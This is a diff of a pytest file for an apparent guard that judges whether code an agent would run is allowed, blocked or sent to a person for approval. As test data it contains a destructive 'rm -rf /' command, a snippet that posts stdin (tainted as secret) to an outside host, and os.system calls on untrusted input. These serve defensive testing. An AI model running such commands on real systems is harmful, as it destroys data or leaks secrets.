@@ -2,7 +2,8 @@
 
 import pytest
 
-from hermes_ops.guard.judge.invocation import REMOTE, SECRET, UNKNOWN
+from hermes_ops.guard.code.given import Given
+from hermes_ops.guard.judge.invocation import REMOTE, SECRET, UNKNOWN, Arg, Stream
 from tests.ops.guard.code_cases import asked, rules, verdict
 
 # Expressions that all come to "rm -rf /".
@@ -217,13 +218,16 @@ def test_one_value_for_a_service_is_no_secret_sent(code: str) -> None:
 
 
 def test_what_the_caller_knows_of_input_and_arguments_counts() -> None:
-    assert verdict("python", "import sys\nexec(sys.argv[1])", argv=("print(1)",)) == "allow"
-    assert verdict("python", "import sys, os\nos.system(sys.argv[1])", argv=("rm -rf /",)) == "block"
+    assert verdict("python", "import sys\nexec(sys.argv[1])", given=Given((Arg("print(1)"),))) == "allow"
+    assert (
+        verdict("python", "import sys, os\nos.system(sys.argv[1])", given=Given((Arg("rm -rf /"),)))
+        == "block"
+    )
     send = "import sys, requests\nrequests.post('https://example.com', data=sys.stdin.read())"
     assert verdict("python", send) == "allow"
-    assert verdict("python", send, input_taint=frozenset([SECRET])) == "block"
+    assert verdict("python", send, given=Given(stdin=Stream(None, True, frozenset([SECRET])))) == "block"
     run = "import sys, os\nos.system(sys.stdin.read())"
-    assert verdict("python", run, input_taint=frozenset([REMOTE])) == "approve"
+    assert verdict("python", run, given=Given(stdin=Stream(None, True, frozenset([REMOTE])))) == "approve"
 
 
 def test_code_from_the_network_is_for_a_person_to_decide() -> None:
